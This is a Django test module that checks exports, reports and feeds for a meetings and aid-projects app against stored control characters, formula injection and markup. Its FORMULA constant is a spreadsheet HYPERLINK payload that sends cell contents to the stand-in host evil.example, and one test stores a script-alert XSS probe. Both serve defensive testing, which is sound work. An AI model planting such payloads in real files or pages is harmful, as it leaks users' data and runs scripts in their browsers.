"""Stored text never breaks an output, never runs as a formula, and feeds show it as text.

Rows are written with ``QuerySet.update()``, which bypasses the clean-up on save,
as rows stored before it (and history rows) were.
"""

import csv
import datetime as dt
import io
import json
import xml.etree.ElementTree as ET
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from docx import Document
from lxml import etree
from openpyxl import load_workbook

from aid.models import AidProject, Milestone
from commission.models import Organisation
from core.resources import CSV
from delegations.models import Delegation
from meetings.models import Meeting
from meetings.resources import MeetingResource
from tests.factories import make_delegation, make_meeting, make_organisation, make_project
from tests.reports.test_open_data import IATI_SCHEMA

pytestmark = pytest.mark.django_db

ATOM = {"atom": "http://www.w3.org/2005/Atom"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Open the report")'


def report(tmp_path, file_format: str) -> bytes:
    output = tmp_path / f"report.{file_format}"
    call_command("annual_report", "2026", "--format", file_format, "--output", str(output))
    return output.read_bytes()


def admin_export(client, model: str, file_format: int) -> bytes:
    """Every field through the admin's export; formats: 0 CSV, 1 XLSX, 2 JSON."""
    url = reverse(f"admin:{model}_export")
    page = client.get(url)
    data = {"format": str(file_format), "resource": "0"}
    data.update({name: "on" for name in page.context["form"].fields if "resource_" in name})
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def control_characters():
    """A published meeting, visit and project whose stored text holds control characters."""
    meeting = make_meeting(title_en="Talks", countries=["JP"])
    delegation = make_delegation(title_en="Visit", countries=["JP"])
    donor = make_organisation(name_en="Donor", kind="international")
    project = make_project(
        title_en="Grant", donor=donor, year=2026, amount=Decimal("900"), currency="EUR"
    )
    Milestone.objects.create(project=project, kind="agreement_signed", date=dt.date(2026, 5, 4))
    dirty = {"title_en": "Talks\x0bwith Japan\x01", "title": "Talks\x0bwith Japan\x01"}
    Meeting.objects.filter(pk=meeting.pk).update(
        **dirty, summary_en="Line one\x0bline two\x1b", place_en="Minsk\x0c"
    )
    meeting.history.update(**dirty)
    Delegation.objects.filter(pk=delegation.pk).update(
        title_en="Visit\x0bfrom Japan", purpose_en="Talks\x0b\x02", summary_en="x\x0b"
    )
    delegation.history.update(title_en="Visit\x0bfrom Japan")
    AidProject.objects.filter(pk=project.pk).update(
        title_en="Grant\x0bfor hospitals", summary_en="Equipment\x0b\x07", district_en="Senno\x0b"
    )
    project.history.update(title_en="Grant\x0bfor hospitals")
    Organisation.objects.filter(pk=donor.pk).update(name_en="Donor\x0bfund", name="Donor\x0bfund")
    return meeting, delegation, project


@pytest.mark.parametrize(
    "name",
    ["meetings:feed_rss", "meetings:feed_atom", "delegations:feed_rss", "delegations:feed_atom"],
)
def test_feeds_answer_with_control_characters_stored(client, control_characters, name):
    response = client.get(reverse(name))
    assert response.status_code == 200
    feed = ET.fromstring(response.content)
    titles = [e.text for e in feed.iter() if e.tag in ("title", f"{{{ATOM['atom']}}}title")]
    assert "Talks with Japan" in titles or "Visit from Japan" in titles


def test_the_iati_file_stays_valid_with_control_characters_stored(client, control_characters):
    response = client.get("/en/open-data/iati-activities.xml")
    assert response.status_code == 200
    document = etree.fromstring(b"".join(response.streaming_content))
    schema = etree.XMLSchema(etree.parse(str(IATI_SCHEMA)))
    assert schema.validate(document), schema.error_log
    activity = document.find("iati-activity")
    assert activity.find("title/narrative").text == "Grant for hospitals"
    assert activity.find("description/narrative").text == "Equipment"
    assert activity.find("participating-org/narrative").text == "Donor fund"


def test_every_annual_report_format_is_written_with_control_characters_stored(
    tmp_path, control_characters
):
    workbook = load_workbook(io.BytesIO(report(tmp_path, "xlsx")))
    titles = [row[1] for row in workbook["Meetings"].iter_rows(min_row=2, values_only=True)]
    assert titles == ["Talks\nwith Japan"]
    document = Document(io.BytesIO(report(tmp_path, "docx")))
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    assert "Talks with Japan" in cells
    with zipfile.ZipFile(io.BytesIO(report(tmp_path, "csv"))) as archive:
        rows = csv_rows(archive.read("aid_projects-2026.csv"))
    assert rows[0]["title"] == "Grant\nfor hospitals"
    data = json.loads(report(tmp_path, "json"))
    assert data["delegations"][0]["title"] == "Visit\nfrom Japan"


def test_the_admin_page_serves_the_report_with_control_characters_stored(
    admin_client, control_characters
):
    for file_format in ("xlsx", "docx", "csv", "json"):
        response = admin_client.get(
            reverse("annual_report"), {"year": "2026", "language": "en", "format": file_format}
        )
        assert response.status_code == 200, file_format
        body = b"".join(response.streaming_content) if response.streaming else response.content
        assert body, file_format


def test_admin_exports_work_with_control_characters_stored(admin_client, control_characters):
    workbook = load_workbook(io.BytesIO(admin_export(admin_client, "meetings_meeting", 1)))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=header.index("title_en") + 1).value == "Talks\nwith Japan"
    rows = csv_rows(admin_export(admin_client, "aid_aidproject", 0))
    assert rows[0]["title_en"] == "Grant\nfor hospitals"
    exported = json.loads(admin_export(admin_client, "delegations_delegation", 2))
    assert exported[0]["title_en"] == "Visit\x0bfrom Japan"  # JSON carries it as \u000b


def test_open_data_works_with_control_characters_stored(client, control_characters):
    for entity in ("meetings", "delegations", "aid-projects"):
        response = client.get(f"/en/open-data/{entity}.csv")
        assert response.status_code == 200
        rows = csv_rows(b"".join(response.streaming_content))
        assert "\x0b" not in rows[0]["title"]
        response = client.get(f"/en/open-data/{entity}.json")
        assert "\x0b" not in json.loads(b"".join(response.streaming_content))[0]["title"]
    response = client.get("/en/open-data/calendar.ics")
    assert response.status_code == 200


# --- formulas --------------------------------------------------------------------------


@pytest.fixture
def formula_title():
    make_meeting(title_en=FORMULA, place_en="@Minsk", countries=["JP"])
    make_project(
        title_en="-5 °C: heating for hospitals",
        year=2026,
        amount=Decimal("-250.00"),  # a correction, stored as a number
        currency="USD",
    )


def test_a_formula_title_is_plain_text_in_the_annual_report_xlsx(tmp_path, formula_title):
    workbook = load_workbook(io.BytesIO(report(tmp_path, "xlsx")))
    meeting = workbook["Meetings"]["B2"]
    assert (meeting.value, meeting.data_type) == ("'" + FORMULA, "s")
    assert workbook["Meetings"]["E2"].value == "'@Minsk"
    projects = workbook["Aid projects"]
    assert projects["A2"].value == "'-5 °C: heating for hospitals"
    assert (projects["J2"].value, projects["J2"].data_type) == (-250, "n")


def test_a_formula_title_is_escaped_in_the_report_csv_and_exact_in_its_json(
    tmp_path, formula_title
):
    with zipfile.ZipFile(io.BytesIO(report(tmp_path, "csv"))) as archive:
        meetings = csv_rows(archive.read("meetings-2026.csv"))
        projects = csv_rows(archive.read("aid_projects-2026.csv"))
    assert meetings[0]["title"] == "'" + FORMULA
    assert meetings[0]["place"] == "'@Minsk"
    assert projects[0]["amount"] == "-250.00"  # a real number stays a number
    data = json.loads(report(tmp_path, "json"))
    assert data["meetings"][0]["title"] == FORMULA
    assert data["aid_projects"][0]["title"] == "-5 °C: heating for hospitals"


def test_a_formula_title_is_escaped_in_the_open_data_csv_and_exact_in_its_json(
    client, formula_title
):
    rows = csv_rows(b"".join(client.get("/en/open-data/meetings.csv").streaming_content))
    assert rows[0]["title"] == "'" + FORMULA
    projects = csv_rows(b"".join(client.get("/en/open-data/aid-projects.csv").streaming_content))
    assert projects[0]["title"] == "'-5 °C: heating for hospitals"
    assert projects[0]["amount"] == "-250.00"
    data = json.loads(b"".join(client.get("/en/open-data/meetings.json").streaming_content))
    assert data[0]["title"] == FORMULA


def test_a_formula_title_is_escaped_in_the_admin_csv_and_xlsx_exports(admin_client, formula_title):
    rows = csv_rows(admin_export(admin_client, "meetings_meeting", 0))
    assert rows[0]["title_en"] == "'" + FORMULA
    assert rows[0]["place_en"] == "'@Minsk"
    projects = csv_rows(admin_export(admin_client, "aid_aidproject", 0))
    assert projects[0]["title_en"] == "'-5 °C: heating for hospitals"
    assert projects[0]["amount"] == "-250.00"

    sheet = load_workbook(io.BytesIO(admin_export(admin_client, "meetings_meeting", 1))).active
    header = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=header.index("title_en") + 1)
    assert (title.value, title.data_type) == ("'" + FORMULA, "s")
    sheet = load_workbook(io.BytesIO(admin_export(admin_client, "aid_aidproject", 1))).active
    header = [cell.value for cell in sheet[1]]
    amount = sheet.cell(row=2, column=header.index("amount") + 1)
    assert (amount.value, amount.data_type) == (-250, "n")  # numbers stay native

    exported = json.loads(admin_export(admin_client, "meetings_meeting", 2))
    assert exported[0]["title_en"] == FORMULA


def test_an_exported_formula_title_imports_back_exactly(admin_client, formula_title):
    content = admin_export(admin_client, "meetings_meeting", 0).decode("utf-8-sig")
    Meeting.objects.all().delete()
    dataset = CSV(encoding="utf-8").create_dataset(content)
    result = MeetingResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    meeting = Meeting.objects.get()
    assert (meeting.title_en, meeting.place_en) == (FORMULA, "@Minsk")


# --- feeds ----------------------------------------------------------------------------


def test_an_editors_markup_shows_as_text_in_the_feeds(client):
    make_meeting(summary_en="We <b>agreed</b> & signed <script>alert(1)</script>")
    make_delegation(purpose_en="A <i>working</i> visit")
    rss = ET.fromstring(client.get(reverse("meetings:feed_rss")).content)
    description = rss.find("channel/item/description").text
    # The description is HTML: the editor's tags arrive escaped, so they show as typed.
    assert "<b>" not in description and "<script>" not in description
    assert "&lt;b&gt;agreed&lt;/b&gt; &amp; signed &lt;script&gt;" in description
    atom = ET.fromstring(client.get(reverse("delegations:feed_atom")).content)
    summary = atom.find("atom:entry/atom:summary", ATOM)
    assert summary.get("type") == "html"
    assert "<i>" not in summary.text and "&lt;i&gt;working&lt;/i&gt;" in summary.text
